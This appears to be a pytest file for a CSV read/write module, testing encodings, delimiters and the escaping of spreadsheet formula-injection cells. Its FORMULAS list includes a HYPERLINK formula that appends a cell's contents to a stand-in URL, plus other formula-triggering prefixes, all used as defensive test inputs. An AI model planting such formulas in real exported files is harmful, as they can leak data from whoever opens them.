"""CSV as spreadsheet programs write it: UTF-8 (with or without a byte-order mark), commas
or, in some locales, semicolons."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from publish.app.sheets.csvfile import guarded, read, unguarded, write


def test_cells_with_line_breaks_and_quotes_come_back():
    """Empty cells are None; a row ends at its last value, and the table at its last row
    with one (empty ones before it stay, as rows without cells)."""
    rows = [["a", "b", None], ["", None], ["line one\nline two", 'say "hi", twice'], ["", None]]
    assert read(write(rows)) == [["a", "b"], [], ["line one\nline two", 'say "hi", twice']]


def test_excel_s_byte_order_mark_and_semicolons_and_crlf():
    data = "\ufeffnumber;name\r\n001;\"A;\r\nB\"\r\n".encode()
    assert read(data) == [["number", "name"], ["001", "A;\nB"]]


def test_text_in_another_encoding_is_refused_with_what_to_do():
    with pytest.raises(ValueError, match=r"not UTF-8 text .*save it as CSV UTF-8"):
        read("número".encode("latin-1"))


FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1, "click")', "+1+2", "-2+3", "@SUM(A1)",
            "\tcmd", "\rcmd", "'=already quoted", "''+two"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_a_spreadsheet_would_evaluate_gets_an_apostrophe_and_loses_it_on_reading(text):
    data = write([["name"], [text]])
    cell = next(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))  # the header
    assert cell == ["name"]
    written = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))[1][0]
    assert written == "'" + text  # Excel and Calc show it as text, apostrophe and all
    assert read(data) == [["name"], [text]]


@pytest.mark.parametrize("text", ["-1", "+2", "-0.5", "1e5", "plain", "'tis", "a=b", "' =x"])
def test_numbers_and_other_text_are_written_as_they_are(text):
    assert guarded(text) == text and unguarded(text) == text


@given(st.text(alphabet="'=+-@\t\rx1. e", max_size=8))
@settings(max_examples=300, derandomize=True)
def test_every_text_reads_back_as_it_was_written_and_none_starts_a_formula(text):
    cell = guarded(text)
    assert unguarded(cell) == text
    assert cell[:1] not in tuple("=+-@\t\r") or re.fullmatch(r"[+-][0-9.e]*", cell)
